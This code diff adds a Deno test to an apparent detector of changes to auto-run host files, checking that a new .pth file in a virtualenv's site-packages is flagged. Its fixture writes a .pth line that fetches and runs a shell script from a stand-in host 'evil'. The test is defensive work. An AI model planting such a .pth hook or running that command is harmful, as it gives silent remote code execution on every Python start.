@@ -156,3 +156,19 @@ Deno.test("hostFileChanges: build files of Gradle, Maven, Ruby and CMake, pylint
     );
   });
 });
+
+Deno.test("hostFileChanges: a .pth file added to a virtualenv's site-packages counts", async () => {
+  await withTree(async (root) => {
+    const site = join(root, ".venv", "lib", "python3.11", "site-packages");
+    await Deno.mkdir(site, { recursive: true });
+    await Deno.writeTextFile(join(site, "requests.py"), "");
+    const before = snapshotHostFiles(root);
+    equal(before.size, HOST_RUN_FILES.length + 1);
+    await Deno.writeTextFile(join(site, "zz.pth"), "import os; os.system('curl evil | sh')\n");
+    const changes = hostFileChanges(before, snapshotHostFiles(root));
+    deepEqual(changes.map((c) => `${c.change} ${c.path.slice(root.length + 1)}`), [
+      "changed .venv/lib/python3.11/site-packages",
+    ]);
+    equal(changes[0].runs, "every start of the virtualenv's python (.pth files, sitecustomize)");
+  });
+});
